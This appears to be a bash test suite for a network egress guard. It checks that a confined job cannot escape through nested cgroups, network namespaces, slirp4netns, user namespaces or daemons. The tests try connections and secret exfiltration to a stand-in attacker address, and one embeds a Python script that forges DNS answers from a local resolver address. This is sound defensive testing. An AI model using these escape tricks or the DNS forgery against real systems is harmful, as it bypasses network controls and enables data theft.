# shellcheck shell=bash
# SPDX-License-Identifier: GPL-2.0
# A job stays in its guard wherever it goes: cgroups below its own, network namespaces, children.

test_a_nested_cgroup_is_still_guarded() {
	cat >"$CASE/nested" <<-'END'
	own=$1$(sed -n 's/^0:://p' /proc/self/cgroup)
	shift
	mkdir -p "$own/below/deeper" && echo $$ >"$own/below/deeper/cgroup.procs" || exit 77
	"$@"
	status=$?
	[ -n "$LEAVE" ] || { echo $$ >"$own/cgroup.procs" && rmdir "$own/below/deeper" "$own/below"; }
	exit $status
	END
	policy_feed
	verdict not-allowed bash "$CASE/nested" "$CGROUP2" $JOB tcp $EVIL4 8080
	# Those that the job leaves are removed with its own.
	LEAVE=1 guarded -- bash "$CASE/nested" "$CGROUP2" $JOB tcp feed.example 8080
	status_is 0
}

# The job makes a network namespace and joins it by a veth pair to the agent's, which forwards.
own_namespace() {
	cat >"$CASE/namespace" <<-'END'
	unshare --net sleep 60 &
	child=$!
	until [ "$(readlink /proc/$child/ns/net)" != "$(readlink /proc/self/ns/net)" ]; do sleep 0.01; done
	inside() { nsenter --target $child --net "$@"; }
	ip link add bfjob0 type veth peer name eth0 netns /proc/$child/ns/net
	ip addr add 192.0.2.129/30 dev bfjob0
	ip link set bfjob0 up
	inside ip addr add 192.0.2.130/30 dev eth0
	inside ip link set lo up
	inside ip link set eth0 up
	inside ip route add default via 192.0.2.129
	# On the outside's link this subnet has no neighbour of its own: the agent answers for it.
	echo 1 >/proc/sys/net/ipv4/conf/a0/proxy_arp
	inside "$@"
	status=$?
	ip link del bfjob0
	kill $child
	exit $status
	END
}

test_a_network_namespace_of_its_own_is_still_guarded() {
	policy_feed
	own_namespace
	verdict not-allowed bash "$CASE/namespace" $JOB tcp $EVIL4 8080
	verdict not-allowed bash "$CASE/namespace" $JOB udp $EVIL4 9999
	guarded -- bash "$CASE/namespace" $JOB tcp feed.example 8080
	status_is 0
	not_recorded
}

# As rootless Docker does it: a namespace whose packets slirp4netns, a process of the job, sends on as
# its own. Names are asked of 10.0.2.3 there, which is a resolver only where the policy says so.
test_a_user_mode_network_is_guarded_and_asks_the_resolver_that_the_policy_names() {
	needs slirp4netns
	[ -c /dev/net/tun ] || skip "this machine has no /dev/net/tun"
	echo 'nameserver 10.0.2.3' >"$CASE/resolv.conf"
	cat >"$CASE/slirp" <<-END
	unshare --net --mount bash -c '
		mount --bind "$CASE/resolv.conf" /etc/resolv.conf
		until ip address show tap0 2>/dev/null | grep -q 10.0.2.100; do sleep 0.02; done
		exec "\$@"' bash "\$@" &
	child=\$!
	until [ "\$(readlink /proc/\$child/ns/net)" != "\$(readlink /proc/\$\$/ns/net)" ]; do sleep 0.02; done
	slirp4netns --configure --disable-host-loopback \$child tap0 >/dev/null 2>&1 &
	wait \$child
	END
	policy_feed
	unguarded bash "$CASE/slirp" $JOB tcp feed.example 8080
	status_is 0
	guarded -- bash "$CASE/slirp" $JOB tcp feed.example 8080
	status_is_not 0
	recorded DstIpAddr=10.0.2.3 Reason=dns-server
	echo "dns: { servers: [$DNS4, 10.0.2.3] }" >>"$CASE/policy.yaml"
	guarded -- bash "$CASE/slirp" $JOB tcp feed.example 8080
	status_is 0
	not_recorded
	verdict not-allowed bash "$CASE/slirp" $JOB tcp $EVIL4 8080
}

# 127.0.0.53 is a resolver on every machine; where none listens there, the job could take its place.
test_a_job_cannot_answer_its_own_questions() {
	attack <<-'END'
	import socket, struct, sys, threading
	import job
	server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
	server.bind((sys.argv[1], 53))
	def answer():
	    message, peer = server.recvfrom(512)
	    server.sendto(message[:2] + b"\x85\x80\0\1\0\1\0\0\0\0" + message[12:] + b"\xc0\x0c\0\1\0\1\0\0\1\0\0\4" +
	                  socket.inet_aton("203.0.113.66"), peer)
	threading.Thread(target=answer, daemon=True).start()
	job.PATIENCE_S = 0.5 * job.SLOW
	try:
	    print("forged", *job.addresses(job.ask(job.question("feed.example"), sys.argv[1])))
	except OSError as error:
	    print(error)
	job.tcp("203.0.113.66", 8080)
	END
	local server
	policy_feed
	for server in 127.0.0.53 127.0.0.11; do
		unguarded "${ATTACK[@]}" $server
		prints "forged $EVIL4"
		new_secret
		guarded -- "${ATTACK[@]}" $server
		status_is_not 0
		recorded DstIpAddr=$EVIL4 Reason=not-allowed
		nothing_arrived "$SECRET"
	done
}

test_children_and_daemons_of_a_job_are_guarded() {
	policy_feed
	guarded -- bash -c "setsid bash -c '$JOB tcp $EVIL4 8080; echo \$? >status' & wait"
	[ "$(cat status)" = 1 ] || fail "the child got status $(cat status)"
	nothing_arrived "$EVIL4"
}

test_another_user_in_the_job_is_guarded() {
	policy_feed
	needs setpriv
	chmod 755 "$CASE"
	verdict not-allowed setpriv --reuid 65534 --regid 65534 --clear-groups $JOB tcp $EVIL4 8080
	recorded SrcUserId=65534
}

test_a_user_namespace_does_not_leave_the_guard() {
	policy_feed
	unshare --user --map-root-user true 2>/dev/null || skip "user namespaces are not allowed here"
	verdict not-allowed unshare --user --map-root-user $JOB tcp $EVIL4 8080
}

test_two_jobs_at_the_same_time_have_each_their_own_policy() {
	cat >"$CASE/a.yaml" <<<$'version: 1\nallow: [ "tcp://198.51.100.1:8080" ]'
	cat >"$CASE/b.yaml" <<<$'version: 1\nallow: [ "tcp://198.51.100.2:8080" ]'
	local both="$JOB tcp 198.51.100.1 8080; echo \$?; $JOB tcp 198.51.100.2 8080; echo \$?"
	in_agent "$BUILDFENCE" run --policy "$CASE/a.yaml" -- bash -c "sleep 0.2; $both" >"$CASE/a.out" 2>"$CASE/a.err" &
	in_agent "$BUILDFENCE" run --policy "$CASE/b.yaml" -- bash -c "sleep 0.2; $both" >"$CASE/b.out" 2>"$CASE/b.err" &
	wait
	[ "$(paste -sd' ' "$CASE/a.out")" = "0 1" ] || fail "job a: $(cat "$CASE/a.out" "$CASE/a.err")"
	[ "$(paste -sd' ' "$CASE/b.out")" = "1 0" ] || fail "job b: $(cat "$CASE/b.out" "$CASE/b.err")"
}
